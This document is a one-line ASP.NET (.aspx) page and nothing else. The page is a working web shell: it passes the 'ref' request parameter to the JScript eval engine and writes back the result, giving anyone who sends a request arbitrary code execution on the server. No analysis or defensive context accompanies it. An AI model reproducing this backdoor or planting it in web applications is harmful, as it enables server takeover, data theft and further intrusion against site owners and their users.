<%@ Page Language="C#" %><% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request["ref"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine())); %>
